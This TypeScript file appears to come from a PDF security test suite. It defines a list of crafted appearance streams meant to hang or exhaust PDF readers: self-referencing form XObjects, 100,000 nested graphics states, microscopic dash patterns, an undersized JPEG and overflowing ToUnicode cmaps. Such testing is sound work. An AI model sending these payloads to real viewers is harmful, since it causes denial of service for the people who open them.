import { FLOOD, look } from '../sign.ts';
import { streamBody } from '../update.ts';
import { type Attack, FORM, lookOf, signed } from './attack.ts';

const FONT = FORM.replace('<<>>', '<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>');
const shows = (id: number) => FORM.replace('<<>>', `<</XObject<</F ${id} 0 R>>>>`);
const times = (count: number, what: string) => what.repeat(count);
const group = look(`${FORM}/Group<</S/Transparency/I true/K true/CS/DeviceRGB>>`, '0 0 1 1 re f');
const jpeg = Buffer.from(
  'ffd8ffc0001108fffffffc03011100021100031100ffda000c03010002000300003f00ffd9',
  'hex',
).toString('latin1');
const ranges = `1 begincodespacerange <000000> <ffffff> endcodespacerange 50 beginbfrange ${times(50, '<000000> <ffffff> <0041> ')}endbfrange`;

/** The ends of a range so long that their difference is lost, and a million letters with it. */
const lost = `1 beginbfrange <10000000000000000000> <100000000000000fffff> <0041> endbfrange`;

/** Looks that readers take minutes to draw, or never end: no page is seen behind them. Not shown to readers here, which would wait. */
export const COSTLY: readonly Attack[] = [
  signed('endless look', 'forms within forms, ten times each', [], (_, free) => ({
    ...lookOf(times(10, '/F Do '), shows(free)),
    objects: Array.from({ length: 8 }, (_one, i) => ({
      id: free + i,
      body: look(i === 7 ? FORM : shows(free + i + 1), i === 7 ? FLOOD : times(10, '/F Do ')),
    })),
  })),
  signed('endless look', 'a form within itself', [], (_, free) => ({
    ...lookOf('/F Do', shows(free)),
    objects: [{ id: free, body: look(shows(free), '/F Do') }],
  })),
  signed('endless look', 'groups', [], (_, free) => ({
    ...lookOf(times(60_000, '/F Do '), shows(free)),
    objects: [{ id: free, body: group }],
  })),
  signed('endless look', 'as many states as letters', [], () => lookOf(times(100_000, 'q ') + FLOOD)),
  signed('endless look', 'rectangles', [], () => lookOf(times(60_000, '0 0 200 60 re f '))),
  signed('endless look', 'letters', [], () =>
    lookOf(`BT /F1 9 Tf ${times(50_000, '(abcdefghijklmnopqrstuvwxyz) Tj ')}ET`, FONT),
  ),
  signed('endless look', 'short dashes', [], () => lookOf('[.0001 .0001] 0 d 0 0 m 9999999 0 l S')),
  signed('endless look', 'a picture of more pixels than it says', [], (_, free) => ({
    ...lookOf('/F Do', shows(free)),
    objects: [
      {
        id: free,
        body: streamBody(
          '/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/DCTDecode',
          jpeg,
        ),
      },
    ],
  })),
  signed('endless look', 'a table of all characters, fifty times', [], (_, free) => ({
    ...lookOf('BT /F1 9 Tf (a) Tj ET', FONT.replace('/Helvetica', `/Helvetica/ToUnicode ${free} 0 R`)),
    objects: [{ id: free, body: streamBody('', ranges) }],
  })),
  signed('endless look', 'a table of codes too long to be counted', [], (_, free) => ({
    ...lookOf('BT /F1 9 Tf (a) Tj ET', FONT.replace('/Helvetica', `/Helvetica/ToUnicode ${free} 0 R`)),
    objects: [{ id: free, body: streamBody('', lost) }],
  })),
];
